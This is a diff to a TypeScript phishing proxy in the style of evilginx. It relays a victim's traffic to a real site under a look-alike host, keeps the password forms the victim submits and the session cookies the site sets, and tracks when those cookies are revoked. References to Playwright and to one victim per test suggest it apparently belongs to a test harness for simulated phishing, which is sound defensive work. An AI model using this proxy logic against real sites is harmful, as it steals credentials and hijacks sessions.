@@ -3,16 +3,29 @@ import { buffer, text } from 'node:stream/consumers';
 import { pipeline } from 'node:stream/promises';
 import { closeServer, listenOnLoopback } from './loopback.ts';
 import { Disguise } from './phishing-disguise.ts';
-import { PhishingLoot, type StolenCookie, type StolenForm } from './phishing-loot.ts';
 
-/** The name the victim sees; a secure context in Chromium although it is http, as a kit's https page would be. */
+/** The name that the victim sees. In Chromium it is a secure context although it is http, as a kit's https page is. */
 const HOST = 'signin.localhost';
 const REWRITTEN = /^(?:text\/(?:html|css|javascript)|application\/(?:javascript|json|xhtml\+xml))\b/i;
 
+/** A cookie of the target, in the shape in which Playwright's `addCookies` takes it. */
+export interface StolenCookie {
+  readonly name: string;
+  readonly value: string;
+  /** The target's address, where the cookie opens a session. */
+  readonly url: string;
+}
+
+/** A form that the victim filled in. */
+export interface StolenForm {
+  readonly path: string;
+  readonly fields: Readonly<Record<string, string>>;
+}
+
 /**
- * A phishing proxy as kits of the kind of evilginx are: the victim visits it under another name and sees the real site,
- * since every request is relayed there and every answer back, streams included. What passes through is kept: the
- * password on its way in, the session's cookie on its way out. It relays http, and no WebSockets.
+ * A phishing proxy like evilginx and other kits: the victim visits it under another name and sees the real site, since
+ * every request is relayed there and every answer back, streams included. The proxy keeps the password on its way in
+ * and the session's cookie on its way out. It relays http, but no WebSockets.
  *
  * A browser finds it when it was launched with `extraHosts: [proxy.host]`.
  */
@@ -56,7 +69,7 @@ export class PhishingProxy {
     return new PhishingProxy(server, { target, host, port: await listenOnLoopback(server) });
   }
 
-  /** The target's cookies as they stand: whoever sends them is the victim. */
+  /** The target's cookies as they stand: to the target, a browser that sends them is the victim's. */
   sessionCookies(): StolenCookie[] {
     return this.#loot.cookies;
   }
@@ -85,7 +98,7 @@ export class PhishingProxy {
       response.end(this.#disguise.responseText(await text(answer)));
       return;
     }
-    // An event stream's page waits for the headers, long before the first event.
+    // A page with an event stream waits for the headers, long before the first event.
     response.flushHeaders();
     await pipeline(answer, response);
   }
@@ -98,7 +111,7 @@ export class PhishingProxy {
     return new Promise((resolve, reject) => {
       const asked = requestOf(this.target + path, { method: request.method, headers: headers.flat() }, resolve);
       asked.once('error', reject);
-      // Whoever leaves a page ends its streams; the target must hear of it.
+      // A victim who leaves a page ends its streams; the target must hear of it.
       response.once('close', () => asked.destroy());
       asked.end(body);
     });
@@ -110,9 +123,45 @@ export class PhishingProxy {
   }
 }
 
-/** Headers one by one, names in small letters; several of one name stay several, as Set-Cookie has to. */
+/** Headers one by one, names in lower case. Several of one name stay several, as Set-Cookie has to. */
 function pairs(message: IncomingMessage): [string, string][] {
   return Object.entries(message.headersDistinct).flatMap(([name, values]) =>
     (values ?? []).map((value): [string, string] => [name, value]),
   );
+}
+
+/** What a phishing kit keeps of the traffic. It doesn't tell victims apart: one test has one victim. */
+class PhishingLoot {
+  readonly forms: StolenForm[] = [];
+  readonly #cookies = new Map<string, string>();
+  readonly #target: string;
+
+  constructor(target: string) {
+    this.#target = target;
+  }
+
+  /** The cookies that hold now, without those that the target has replaced or removed. */
+  get cookies(): StolenCookie[] {
+    return [...this.#cookies].map(([name, value]) => ({ name, value, url: this.#target }));
+  }
+
+  /** @param setCookie a Set-Cookie header of the target's, as it was before the disguise */
+  keepCookie(setCookie: string): void {
+    const [pair = '', ...attributes] = setCookie.split(';').map((part) => part.trim());
+    const [name = '', ...value] = pair.split('=');
+    if (attributes.some(takesBack)) this.#cookies.delete(name);
+    else this.#cookies.set(name, value.join('='));
+  }
+
+  /** Keeps forms, as browsers send them. Other bodies are ignored. */
+  keepForm(path: string, contentType: string | undefined, body: string): void {
+    if (!contentType?.startsWith('application/x-www-form-urlencoded')) return;
+    this.forms.push({ path, fields: Object.fromEntries(new URLSearchParams(body)) });
+  }
+}
+
+function takesBack(attribute: string): boolean {
+  const [name = '', value = ''] = attribute.split('=');
+  if (name.toLowerCase() === 'max-age') return Number(value) <= 0;
+  return name.toLowerCase() === 'expires' && Date.parse(value) <= Date.now();
 }
